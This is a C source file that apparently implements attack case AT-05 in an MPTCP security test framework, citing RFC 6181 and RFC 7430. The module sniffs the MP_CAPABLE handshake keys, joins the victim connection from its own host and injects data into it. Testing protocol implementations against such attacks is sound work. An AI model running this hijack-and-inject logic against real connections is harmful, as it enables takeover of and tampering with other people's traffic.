/* SPDX-License-Identifier: MIT */
/*
 * AT-05: who saw the MP_CAPABLE exchange joins the connection later, from a
 * host of its own. RFC 6181 section 6.2, RFC 7430 section 5.
 *
 * What it saw decides what it tries. Clear keys are used as RFC 8684 says, or
 * RFC 6824 where the version was 0.
 * Where only tokens were shown it joins all the same and proves possession of
 * the only secret-looking octets it has: the tokens.
 */
#include "atk_table.h"
#include "atk_heard.h"
#include "atk_inside.h"
#include "atk_joining.h"
#include "mpx_tcp.h"

enum {
    FIRST_PORT = 40000,
    SYN_TRIES = 4,
};
#define RETRY UINT64_C(1000000000) /* ns */

static const char *const keys_words[] = {"sniffed", "wrong", NULL};
static const char *const goal_words[] = {"steal", "inject", NULL};
enum { KEYS, GOAL, SIZE };
enum { WRONG = 1, INJECT = 1 };
static const struct atk_param params[] = {
    [KEYS] = {"keys", ATK_P_WORD, .words = keys_words},
    [GOAL] = {"goal", ATK_P_WORD, .words = goal_words},
    [SIZE] = {"size", ATK_P_SIZE, .initial = 64000, .min = 1,
              .max = 1000000000},
    {.name = NULL},
};

enum stage { SEEN, JOINING, INSIDE, OUT };

struct victim {
    enum stage stage;
    struct atk_inside in;
    uint32_t nonce;
    unsigned tries;
};
struct state {
    struct atk_heards heard;
    struct victim v[ATK_HEARD_MAX];
};

static enum atk_verdict see(struct atk *a, void *state,
                            const struct atk_sight *s, uint64_t now)
{
    struct state *st = state;
    struct atk_heard *h = atk_heards_see(&st->heard, s);

    (void)now;
    if (h && atk_param(a, KEYS) == WRONG) {
        h->id[MPX_ROLE_I] ^= 1;
        atk_heard_derive(h);
    }
    return ATK_PASS;
}

/* ---- joining ---- */

static void send_syn(struct atk *a, struct state *st, unsigned i, uint64_t now)
{
    struct victim *v = &st->v[i];

    atk_joining_syn(a, &v->in.tcp, &st->heard.v[i], MPX_ROLE_R, false, v->nonce,
                    now);
    v->tries++;
}

static void begin(struct atk *a, struct state *st, unsigned i, uint64_t now)
{
    struct victim *v = &st->v[i];

    atk_tcp_open_to(&v->in.tcp, a, &st->heard.v[i].ends,
                    (uint16_t)(FIRST_PORT + i));
    atk_random(a, &v->nonce, sizeof v->nonce);
    atk_inside_begin(&v->in, &st->heard.v[i], MPX_ROLE_R);
    v->stage = JOINING;
    send_syn(a, st, i, now);
}

static void act(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->heard.n; i++)
        if (st->v[i].stage == SEEN)
            begin(a, st, i, now);
    atk_set_timer(a, now + RETRY);
}

/* ---- inside ---- */

static void inject(struct atk *a, struct victim *v, bool again, uint64_t now)
{
    if (atk_param(a, GOAL) == INJECT)
        atk_inside_inject(a, &v->in, atk_param(a, SIZE), again, now);
}

static void on_segment(struct atk *a, struct state *st, unsigned i,
                       const uint8_t *hdr, uint8_t hdr_len, size_t len,
                       uint64_t now)
{
    struct victim *v = &st->v[i];

    if (mpx_seg_kind_of(hdr[MPX_TCP_OFF_FLAGS]) == MPX_SEG_SYNACK) {
        if (atk_joining_on_synack(a, &v->in.tcp, &st->heard.v[i].key,
                                  MPX_ROLE_I, v->nonce, hdr, hdr_len, now))
            v->stage = INSIDE;
        return;
    }
    atk_inside_segment(a, &v->in, hdr, hdr_len, len, now);
    if (v->stage == INSIDE)
        inject(a, v, false, now);
}

static void host(struct atk *a, void *state, const struct atk_flow *f,
                 const uint8_t *hdr, uint8_t hdr_len, const uint8_t *payload,
                 size_t len, uint64_t now)
{
    struct state *st = state;
    unsigned i = (unsigned)f->local_port - FIRST_PORT;

    (void)payload;
    if (f->local_port < FIRST_PORT || i >= st->heard.n ||
        st->v[i].stage == SEEN || st->v[i].stage == OUT)
        return;
    if (hdr[MPX_TCP_OFF_FLAGS] & MPX_TCP_RST) {
        st->v[i].stage = OUT;
        return;
    }
    on_segment(a, st, i, hdr, hdr_len, len, now);
}

static void timer(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->heard.n; i++) {
        struct victim *v = &st->v[i];

        if (v->stage == JOINING && v->tries < SYN_TRIES)
            send_syn(a, st, i, now);
        if (v->stage == INSIDE)
            inject(a, v, true, now);
    }
    atk_set_timer(a, now + RETRY);
}

static void end(void *state)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->heard.n; i++)
        atk_tcp_free(&st->v[i].in.tcp);
    mpx_wipe(st, sizeof *st);
}

const struct atk_ops atk_join_sniffed = {
    .name = "join-with-sniffed-keys",
    .id = "AT-05",
    .does = "joins the connection from its own host with the keys of the first "
            "handshake",
    .source = "RFC 6181 section 6.2; RFC 7430 section 5",
    .powers = ATK_READ | ATK_HOST,
    .params = params,
    .state_size = sizeof(struct state),
    .see = see,
    .act = act,
    .host = host,
    .timer = timer,
    .end = end,
};
